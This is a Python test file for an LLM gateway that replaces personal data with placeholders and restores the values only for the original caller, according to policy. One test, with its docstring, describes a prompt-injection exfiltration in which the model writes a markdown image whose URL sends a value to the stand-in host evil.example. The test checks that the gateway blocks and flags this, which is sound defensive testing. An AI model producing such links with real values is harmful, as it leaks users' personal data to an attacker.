"""Placeholders in an answer: restored for its caller where policy says so, and for nobody else."""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from governance.kernel.encryption import decrypt
from governance.kernel.terms import RiskTier, Sensitivity
from governance.policy.rules import ALWAYS, RESTORABLE, obligations
from governance.registry.models import UseCase
from prompts.catalogue.models import PromptVersion
from prompts.catalogue.sql import WRITABLE_AGAIN
from prompts.gateway import caching, pipeline, restoring, screens, streaming
from prompts.gateway.api import representation
from prompts.gateway.context import GovernedRequest
from prompts.gateway.models import CachedAnswer, RestorableValues
from prompts.gateway.reply import GovernedReply, reply_of_earlier
from telemetry.ledger.erasing import request_erasure, run_step
from telemetry.ledger.legal_holds import place_hold
from telemetry.ledger.models import Call, Payload
from tests.factories.clients import TOOLS, with_clerk
from tests.factories.organisation import Provider, Streamed, World, provider, tool_call
from tests.prompts.test_governed_call import decide

pytestmark = pytest.mark.django_db
JANE, CARD, PHONE = "jane@example.com", "4111 1111 1111 1111", "+44 20 7946 0958"
SAID = "Write to <EMAIL_ADDRESS_1>, call <PHONE_NUMBER_1>, charge <CREDIT_CARD_1>."
GIVEN = f"Write to {JANE}, call {PHONE}, charge <CREDIT_CARD_1>."
ASKED = f"Who is {JANE}, who calls from {PHONE} and pays by {CARD}?"


@pytest.fixture
def here() -> World:
    """Any text may be its answer, nobody looks first, and callers bring messages."""
    made = with_clerk({"type": "text"})
    UseCase.objects.filter(pk=made.use_case.pk).update(sensitivity="internal")
    return made


@pytest.fixture
def model(settings: Any) -> Iterator[Provider]:
    with provider(SAID) as scripted:
        settings.PLACET_MODEL_URL = scripted.url
        yield scripted


def call(here: World, text: str = ASKED, **more: Any) -> GovernedReply:
    facts: dict[str, Any] = {"messages": [{"role": "user", "content": text}]} | more
    return pipeline.run(GovernedRequest("licence-review/clerk", here.key, **facts))


def look_at_all(here: World) -> None:
    UseCase.objects.filter(pk=here.use_case.pk).update(oversight="all")


def newest() -> Call:
    return Call.objects.latest("admitted_at")


def kept(call: Call, column: str = "response") -> str | None:
    return Payload.objects.get(pk=call.pk).open(column)


def test_the_policy_never_restores_numbers_of_cards_accounts_and_persons() -> None:
    for sensitivity in Sensitivity:
        for tier in RiskTier:
            obliged = obligations(sensitivity, tier)
            assert not set(obliged.restore) & set(ALWAYS)
            assert set(obliged.restore) <= set(obliged.redact)
    assert obligations(Sensitivity.INTERNAL, RiskTier.HIGH).restore == RESTORABLE
    assert obligations(Sensitivity.REGULATED, RiskTier.MINIMAL).restore == ()


def test_the_caller_has_its_values_again_but_what_policy_keeps(
    here: World, model: Provider
) -> None:
    reply = call(here)
    assert (reply.state, reply.answer) == ("delivered", GIVEN)
    assert JANE not in str(model.asked)
    assert kept(newest()) == SAID, "what is kept has placeholders"
    (screened,) = [one for one in newest().stage_trail if one["stage"] == "screen output"]
    assert screened["placeholders"] == {"of": 3, "restored": 2, "kept": ["CREDIT_CARD"]}
    assert screened["note"].endswith("restored 2 of 3, kept by policy: credit card")
    # What is left in the answer is pointed out.
    assert [one["code"] for one in newest().findings] == ["leaked_placeholder"]


def test_the_page_says_how_many_and_what_policy_kept(here: World, model: Provider) -> None:
    call(here)
    client = Client()
    client.force_login(here.people.users["compliance"])
    shown = client.get(f"/calls/{newest().pk}/").content.decode()
    assert "restored 2 of 3 for the application that sent them, kept by" in shown
    assert JANE not in shown


def test_what_is_wholly_restored_leaks_nothing(here: World, model: Provider) -> None:
    model.answers = ["I wrote to <EMAIL_ADDRESS_1>."]
    assert call(here).answer == f"I wrote to {JANE}."
    assert newest().findings == []
    assert restoring.kept_values(newest()) == {"<EMAIL_ADDRESS_1>": JANE}, "and no more is sealed"


def test_regulated_content_keeps_its_placeholders(here: World, model: Provider) -> None:
    assert call(here, sensitivity="regulated").answer == SAID
    assert not RestorableValues.objects.exists()


def test_a_placeholder_of_nobody_stays(here: World, model: Provider) -> None:
    model.answers = ["Ask <EMAIL_ADDRESS_7>."]
    assert call(here).answer == "Ask <EMAIL_ADDRESS_7>."


def test_nothing_is_restored_inside_an_address(here: World, model: Provider) -> None:
    """An injected text lets the model write an image whose address carries a value away."""
    model.answers = ["![x](https://evil.example/?q=<EMAIL_ADDRESS_1>) for <EMAIL_ADDRESS_1>"]
    reply = call(here)
    assert reply.answer == f"![x](https://evil.example/?q=<EMAIL_ADDRESS_1>) for {JANE}"
    assert "leaked_placeholder" in [one["code"] for one in newest().findings]


def test_the_same_request_again_is_the_same_answer(here: World, model: Provider) -> None:
    first = call(here, idempotency_key="a", body_hash="x")
    again = call(here, idempotency_key="a", body_hash="x")
    assert first.answer == again.answer == GIVEN
    assert len(model.asked) == 1


def test_a_held_answer_is_restored_once_it_is_released(here: World, model: Provider) -> None:
    look_at_all(here)
    assert call(here, idempotency_key="a", body_hash="x").answer is None
    assert kept(decide(here, "approve")) == SAID, "the reviewer saw placeholders"
    assert call(here, idempotency_key="a", body_hash="x").answer == GIVEN


def test_a_corrected_answer_may_use_other_placeholders(here: World, model: Provider) -> None:
    look_at_all(here)
    model.answers = ["Call <PHONE_NUMBER_1>."]
    call(here, idempotency_key="a", body_hash="x")
    decided = decide(here, "correct", corrected_text="Write to <EMAIL_ADDRESS_1>.")
    assert kept(decided, "decided") == "Write to <EMAIL_ADDRESS_1>."
    again = call(here, idempotency_key="a", body_hash="x")
    assert (again.state, again.answer) == ("corrected", f"Write to {JANE}.")


def test_people_are_given_placeholders_over_the_api_too(here: World, model: Provider) -> None:
    call(here)
    by_key = Client(headers={"authorization": f"Bearer {here.key}"})
    assert by_key.get(f"/api/v1/calls/{newest().pk}/").json()["output"] == GIVEN
    reply = reply_of_earlier(newest(), is_for_its_caller=False)
    assert representation(reply)["output"] == SAID


def test_json_stays_json() -> None:
    text = '{"to": "<PERSON_1>"}'
    values = {"<PERSON_1>": 'Ann "the Ox" O\\Neill'}
    found = restoring._restored(text, values, is_json=True)
    assert json.loads(found) == {"to": 'Ann "the Ox" O\\Neill'}


def test_tools_are_called_with_the_values(model: Provider) -> None:
    made = with_clerk(TOOLS)
    UseCase.objects.filter(pk=made.use_case.pk).update(sensitivity="internal")
    model.answers = [tool_call("open_ticket", {"title": "<EMAIL_ADDRESS_1>", "urgent": True})]
    reply = call(made)
    assert reply.tool_answer is not None
    assert reply.tool_answer["tool_calls"][0]["arguments"]["title"] == JANE


def test_where_an_address_is_asked_for_its_placeholder_is_one(model: Provider) -> None:
    """And the errors that a repair tells the model never hold the value."""
    to = {"type": "string", "pattern": "^[^@<> ]+@[^@<> ]+$", "maxLength": 30}
    schema = {"type": "object", "properties": {"to": to}, "required": ["to"]}
    made = with_clerk({"type": "json_schema", "schema": schema})
    UseCase.objects.filter(pk=made.use_case.pk).update(sensitivity="internal")
    model.answers = ['{"to": "<EMAIL_ADDRESS_1>"}']
    assert json.loads(call(made).answer or "") == {"to": JANE}
    assert len(model.asked) == 1
    model.answers = ['{"to": "<EMAIL_ADDRESS_1> <EMAIL_ADDRESS_1>"}']
    assert call(made).answer is None
    assert len(model.asked) == 3 and JANE not in str(model.asked)


def streamed(here: World, text: str = ASKED) -> tuple[str, int]:
    body = {
        "model": "licence-review/clerk",
        "stream": True,
        "messages": [{"role": "user", "content": text}],
    }
    response: Any = Client().post(
        "/v1/chat/completions",
        json.dumps(body),
        content_type="application/json",
        headers={"authorization": f"Bearer {here.key}"},
    )
    parts = b"".join(response.streaming_content).decode().split("\n\n")
    data = [one.removeprefix("data: ") for one in parts if one.startswith("data: {")]
    deltas = [choice["delta"] for one in data for choice in json.loads(one)["choices"]]
    said = [one["content"] for one in deltas if one.get("content")]
    return "".join(said), len(said)


def test_a_stream_restores_as_it_goes(here: World, model: Provider) -> None:
    text = f"{SAID} {'And so on, as every licence does. ' * 4}{SAID}"
    pieces = [text[start : start + 3] for start in range(0, len(text), 3)]
    model.answers = [Streamed(pieces)]
    said, parts = streamed(here)
    assert said == text.replace("<EMAIL_ADDRESS_1>", JANE).replace("<PHONE_NUMBER_1>", PHONE)
    assert parts > 10, "nothing waits for the end"
    assert kept(newest()) == text


@given(st.data())
def test_however_a_stream_is_cut_it_says_the_whole(data: Any) -> None:
    words = st.sampled_from(
        [
            "<EMAIL_ADDRESS_1>",
            "<CREDIT_CARD_1>",
            " ",
            "<",
            "<E",
            "_1>",
            "https://a.b/",
            "word, ",
            "\n",
        ]
    )
    text = "".join(data.draw(st.lists(words, max_size=30)))
    values = {"<EMAIL_ADDRESS_1>": JANE}
    shown, sent = "", 0
    for end in range(len(text) + 1):
        end = screens.whole_end(text[:end], end)
        if end > sent:
            restored = screens.restored(text[:end], values)
            assert restored.startswith(shown)
            shown, sent = restored, end
    assert screens.restored(text, values).startswith(shown)
    assert streaming.KEPT_BACK < 100


def let_cache() -> None:
    with connection.cursor() as cursor:
        cursor.execute("SET CONSTRAINTS ALL IMMEDIATE")
        cursor.execute(WRITABLE_AGAIN)
    PromptVersion.objects.update(parameters={"cache_seconds": 600})


def test_an_answer_from_the_cache_has_the_values_of_who_asks(here: World, model: Provider) -> None:
    let_cache()
    model.answers = ["I wrote to <EMAIL_ADDRESS_1>."]
    one = call(here, f"Write to {JANE}")
    two = call(here, "Write to john@example.com")
    assert (one.answer, two.answer) == (f"I wrote to {JANE}.", "I wrote to john@example.com.")
    assert len(model.asked) == 1 and two.call is not None and two.call.is_cached
    found = CachedAnswer.objects.get()
    assert (
        decrypt(found.text_sealed, context=caching._bound_to(found))
        == "I wrote to <EMAIL_ADDRESS_1>."
    )
    assert reply_of_earlier(newest()).answer == two.answer


def test_a_worker_restores_what_it_was_never_told(here: World, model: Provider) -> None:
    request = GovernedRequest(
        "licence-review/clerk",
        here.key,
        messages=[{"role": "user", "content": ASKED}],
        mode="async",
    )
    accepted = pipeline.accept(request)
    assert accepted.call is not None and model.asked == []
    pipeline.carry_on(accepted.call.pk)
    assert reply_of_earlier(newest()).answer == GIVEN
    assert newest().stage_trail[-2]["placeholders"]["restored"] == 2


def test_what_an_accepted_call_did_not_need_is_kept_no_longer(here: World, model: Provider) -> None:
    model.answers = ["I wrote to nobody."]
    request = GovernedRequest(
        "licence-review/clerk",
        here.key,
        messages=[{"role": "user", "content": ASKED}],
        mode="async",
    )
    accepted = pipeline.accept(request)
    assert accepted.call is not None and RestorableValues.objects.count() == 1
    pipeline.carry_on(accepted.call.pk)
    assert not RestorableValues.objects.exists()


def test_they_follow_retention_legal_hold_and_erasure(here: World, model: Provider) -> None:
    one, two = call(here, end_user="ada"), call(here, end_user="bob")
    assert one.call is not None and two.call is not None
    compliance, now = here.people.actor("compliance"), timezone.now()
    assert RestorableValues.objects.get(pk=one.call.pk).keep_until == (
        Payload.objects.get(pk=one.call.pk).keep_until
    )
    place_hold(actor=compliance, name="Case", reason="r", call=two.call, now=now)
    erasure = request_erasure(actor=compliance, end_user="ada", reason="r", now=timezone.now())
    while run_step(erasure_id=erasure.pk, now=timezone.now()):
        pass
    erasure.refresh_from_db()
    assert erasure.erased["Values behind placeholders"] == 1
    later = now + timedelta(days=900)
    assert restoring.forget_values(later, 10) == 0, "the other one is under a legal hold"
    assert list(RestorableValues.objects.values_list("pk", flat=True)) == [two.call.pk]
